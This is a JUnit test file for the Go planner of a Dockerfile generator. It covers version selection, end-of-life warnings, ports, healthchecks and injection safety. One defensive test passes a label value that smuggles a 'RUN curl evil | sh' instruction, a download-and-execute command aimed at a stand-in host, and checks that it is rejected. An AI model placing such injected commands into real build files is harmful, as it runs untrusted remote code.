package dev.dockergen.lang.go;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.dockergen.Fixtures;
import dev.dockergen.GenerateRequest;
import dev.dockergen.GenerationResult;
import dev.dockergen.detect.DetectOptions;
import dev.dockergen.detect.MemoryProjectFiles;
import dev.dockergen.plan.Instruction;
import dev.dockergen.preset.FinalStage;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Planner decisions that the approval fixtures do not pin down one by one. */
class GoPlannerTest {
    private static GenerationResult generate(Map<String, String> files, FinalStage stage, Integer port) {
        return Fixtures.dockergen().generate(new GenerateRequest(new MemoryProjectFiles("app", files),
                DetectOptions.DEFAULT, null, stage, port));
    }

    private static String dockerfile(GenerationResult r) {
        return r.files().get(0).content();
    }

    @Test
    void aGoDirectiveBefore121IsALanguageLevelSoThePresetDefaultBuilds() {
        GenerationResult r = generate(Map.of("go.mod", "module a.b/old\n\ngo 1.16\n",
                "main.go", "package main\nfunc main() {}\n"), FinalStage.DISTROLESS, null);
        assertTrue(dockerfile(r).contains("\nARG GO_VERSION=1.27\n"), dockerfile(r));
        assertTrue(dockerfile(r).contains("# Go 1.27: preset go-distroless default.\n"), dockerfile(r));
        assertEquals("go.mod:3: go 1.16 is a language level, not a toolchain requirement; building with Go 1.27 "
                + "(the preset default)", r.notes().get(0).toString());
    }

    @Test
    void aGoPastItsEndOfLifeIsWarnedWithTheDateAndAnOldCgoGoBuildsOnDebian12() {
        GenerationResult r = generate(Map.of("go.mod", "module a.b/c\n\ngo 1.22\n",
                "main.go", "package main\n\n// #include <stdio.h>\nimport \"C\"\n\nfunc main() {}\n"), FinalStage.DISTROLESS, null);
        assertEquals(List.of("go.mod:3: Go 1.22 reached its end of life on 2025-02-11 (Go release policy): it gets no "
                + "security fixes; move to a supported Go such as 1.27"), r.warnings().stream().map(Object::toString).toList());
        assertTrue(dockerfile(r).contains("\nFROM golang:${GO_VERSION}-bookworm AS build\n"), dockerfile(r));
        assertTrue(dockerfile(r).contains("\nFROM gcr.io/distroless/base-debian13:nonroot AS runtime\n"), dockerfile(r));
        assertTrue(r.notes().stream().anyMatch(n -> n.message().startsWith("Go 1.22 has no golang:<go>-trixie image (they "
                + "start at 1.23), so it builds on golang:<go>-bookworm")), r.notes().toString());

        GenerationResult current = generate(Map.of("go.mod", "module a.b/c\n\ngo 1.26\n",
                "main.go", "package main\n\n// #include <stdio.h>\nimport \"C\"\n\nfunc main() {}\n"), FinalStage.DISTROLESS, null);
        assertEquals(List.of(), current.warnings());
        assertTrue(dockerfile(current).contains("\nFROM golang:${GO_VERSION}-trixie AS build\n"), dockerfile(current));
        // a go directive before 1.21 does not choose the image's Go, so it is not warned about
        assertEquals(List.of(), generate(Map.of("go.mod", "module a.b/old\n\ngo 1.16\n",
                "main.go", "package main\nfunc main() {}\n"), FinalStage.DISTROLESS, null).warnings());
    }

    @Test
    void aGoDirectiveWithAPatchBuildsOnTheNewestPatchOfItsLine() {
        GenerationResult r = generate(Map.of("go.mod", "module a.b/c\n\ngo 1.22.3\n",
                "main.go", "package main\nfunc main() {}\n"), FinalStage.SCRATCH, null);
        assertTrue(dockerfile(r).contains("\nARG GO_VERSION=1.22\n"), dockerfile(r));
    }

    @Test
    void aPrivilegedPortIsExplained() {
        GenerationResult r = generate(Map.of("go.mod", "module a.b/c\n", "main.go",
                "package main\nimport \"net/http\"\nfunc main() { http.ListenAndServe(\":80\", nil) }\n"),
                FinalStage.DISTROLESS, null);
        assertTrue(dockerfile(r).contains("# Port 80 is privileged: Docker lets non-root processes bind it, other runtimes\n"
                + "# may not; prefer a port above 1023 (dockergen init --port 8080) if the program can be configured.\n"
                + "EXPOSE 80\n"), dockerfile(r));
    }

    @Test
    void aPortOverrideForAProgramThatDoesNotReadPortIsOnlyExposed() {
        GenerationResult r = generate(Map.of("go.mod", "module a.b/c\n", "main.go",
                "package main\nimport \"net/http\"\nfunc main() { http.ListenAndServe(\":8080\", nil) }\n"),
                FinalStage.DISTROLESS, 9000);
        assertTrue(dockerfile(r).contains("EXPOSE 9000\n"), dockerfile(r));
        assertFalse(dockerfile(r).contains("ENV PORT"), dockerfile(r));
    }

    @Test
    void aPresetCanTurnTheHealthcheckOffOrRetimeIt() {
        Map<String, String> files = Map.of("go.mod", "module a.b/c\n", "main.go", "package main\nimport \"net/http\"\n"
                + "func main() {\n\thttp.HandleFunc(\"/healthz\", nil)\n\thttp.ListenAndServe(\":8080\", nil)\n}\n");
        var catalog = dev.dockergen.preset.CatalogLoader.withBuiltIns().add("org.yaml", null, """
                apiVersion: dockergen/v1
                kind: PresetCatalog
                presets:
                  - {name: quiet, extends: go-alpine, healthcheck: {enabled: false}}
                  - {name: eager, extends: go-alpine, healthcheck: {interval: 5s, retries: 10}}
                """, "org").build();
        String quiet = Fixtures.dockergen().withCatalog(catalog).generate(new GenerateRequest(
                new MemoryProjectFiles("app", files), DetectOptions.DEFAULT, "quiet", null, null)).files().get(0).content();
        assertTrue(quiet.contains("# No HEALTHCHECK: preset quiet turns it off.\n"), quiet);
        assertFalse(quiet.contains("HEALTHCHECK --"), quiet);
        String eager = Fixtures.dockergen().withCatalog(catalog).generate(new GenerateRequest(
                new MemoryProjectFiles("app", files), DetectOptions.DEFAULT, "eager", null, null)).files().get(0).content();
        assertTrue(eager.contains("HEALTHCHECK --interval=5s --timeout=3s --start-period=5s --retries=10 \\\n"
                + "    CMD [\"wget\", \"-q\", \"--spider\", \"http://127.0.0.1:8080/healthz\"]\n"), eager);
    }

    @Test
    void valuesFromTheRepositoryCannotInjectInstructions() {
        // a label value with quotes and $ stays one quoted value; line breaks never reach the plan
        assertEquals("\"a\\\"b\\$c\\\\\"", dev.dockergen.render.Syntax.quoted("a\"b$c\\"));
        IllegalArgumentException e = org.junit.jupiter.api.Assertions.assertThrows(IllegalArgumentException.class,
                () -> new Instruction.Label("org.opencontainers.image.title", "x\nRUN curl evil | sh"));
        assertTrue(e.getMessage().startsWith("control character"), e.getMessage());
        org.junit.jupiter.api.Assertions.assertThrows(IllegalArgumentException.class,
                () -> new Instruction.Copy(null, java.util.List.of("a b"), "./"));
        org.junit.jupiter.api.Assertions.assertThrows(IllegalArgumentException.class,
                () -> new Instruction.Run(java.util.List.of(), java.util.List.of("echo hi \\")));
    }
}
